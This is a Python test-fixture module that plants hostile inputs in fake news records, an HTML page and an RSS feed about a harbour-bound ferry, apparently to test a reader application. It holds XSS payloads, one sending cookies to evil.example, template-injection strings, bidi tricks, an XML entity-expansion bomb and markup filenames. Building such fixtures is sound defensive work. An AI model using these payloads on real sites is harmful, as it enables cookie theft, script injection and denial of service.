"""Pages that try to act on whoever reads them in the reading room, each in its own way; all are made up."""

import json

SCRIPT = "<script>document.title='owned';fetch('https://evil.example/?'+document.cookie)</script>"
IMAGE = "\"'><img src=https://evil.example/p.png onerror=\"document.title='owned'\">"
SVG = "</title></style></textarea></script><svg onload=\"document.title='owned'\">"
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}"
BIDI = "pay \u202e001\u202c euros \u2067now\u2069 \x07\x1b[31m\x00"
JAVASCRIPT = "javascript:document.title='owned'"
FORMULA = '=HYPERLINK("https://evil.example","owned")'
HTMX = '<div hx-get="https://evil.example" hx-trigger="load" hx-on:load="document.title=1"></div>'

EVERY = (SCRIPT, IMAGE, SVG, TEMPLATE, BIDI, JAVASCRIPT, FORMULA, HTMX)

BODY = """The ferry of Port Alder will stay in its harbour until inspectors have looked at its hull, the
company said on Tuesday. Some 1,200 islanders depend on the boat for food and medicine, the council said.

"We cannot sail with a cracked hull," director Ines Varga told reporters. "The boats stay in port until the
inspectors are done," she said.

{evil}

The Alder was launched on 2 March 2009 and has carried 40,000 cars a year, the company said."""


def records():
    """Records of which one field after the other is hostile; all tell of one event."""
    for number, evil in enumerate(EVERY):
        yield {
            "id": f"r{number} {evil}",
            "title": f"Ferry stays in port {evil}",
            "outlet": f"Outlet {number} {evil}",
            "byline": f"By Ada Roe {evil}",
            "url": JAVASCRIPT if evil == JAVASCRIPT else f"https://outlet{number}.example/{evil}",
            "published": "2024-03-05T10:00:00Z" if number % 2 else f"2024-03-05 {evil}",
            "text": BODY.format(evil=evil),
        }


def page():
    """A page as the web sends it, hostile wherever a page can say something of itself."""
    data = {"@type": "NewsArticle", "headline": SCRIPT, "author": {"name": IMAGE}, "url": JAVASCRIPT}
    paragraphs = "".join(f"<p>{part}</p>" for part in BODY.format(evil="It is late.").split("\n\n"))
    return f"""<html><head><title>Ferry stays in port {SVG}</title>
<meta property="og:title" content="Ferry stays &quot;&gt;&lt;script&gt;document.title=1&lt;/script&gt;">
<meta property="og:site_name" content="{SCRIPT.replace('"', "&quot;")}">
<meta name="author" content="{"x" * 1_000_000}">
<link rel="canonical" href="{JAVASCRIPT}">
<script type="application/ld+json">{json.dumps(data)}</script>
<style>*{{display:none}}</style></head>
<body onload="document.title='owned'"><article><h1>Ferry stays in port &lt;script&gt;</h1>
{paragraphs}<p>{" ".join(f"&lt;b onclick=x{n}&gt;" for n in range(50))}</p>
<iframe src="https://evil.example"></iframe></article></body></html>"""


def feed():
    """A feed whose fields hold markup."""
    return f"""<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[{SCRIPT}]]></title>
<link>{JAVASCRIPT}</link><item><title><![CDATA[{IMAGE} Ferry stays in port]]></title>
<link>https://feed.example/1</link><guid>{"g" * 3000}</guid>
<source url="{JAVASCRIPT}"><![CDATA[{SVG}]]></source>
<description><![CDATA[{BODY.format(evil=HTMX)}]]></description>
<pubDate>Tue, 05 Mar 2024 10:00:00 GMT</pubDate></item></channel></rss>"""


def bomb():
    """XML whose entities would fill the memory."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{levels}]><rss><channel>&l11;</channel></rss>'


def laid(folder):
    """The files of every attack, in a folder; one has a name that is markup."""
    folder.mkdir()
    lines = (json.dumps(record) for record in records())
    folder.joinpath("records.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    folder.joinpath('"><img src=x onerror=alert(1)>.html').write_text(page(), encoding="utf-8")
    folder.joinpath("feed.xml").write_text(feed(), encoding="utf-8")
    folder.joinpath("bomb.xml").write_text(bomb(), encoding="utf-8")
    folder.joinpath("bad\u202egpj.pdf").write_bytes(b"%PDF-1.4 <script>alert(1)</script>")
    return folder
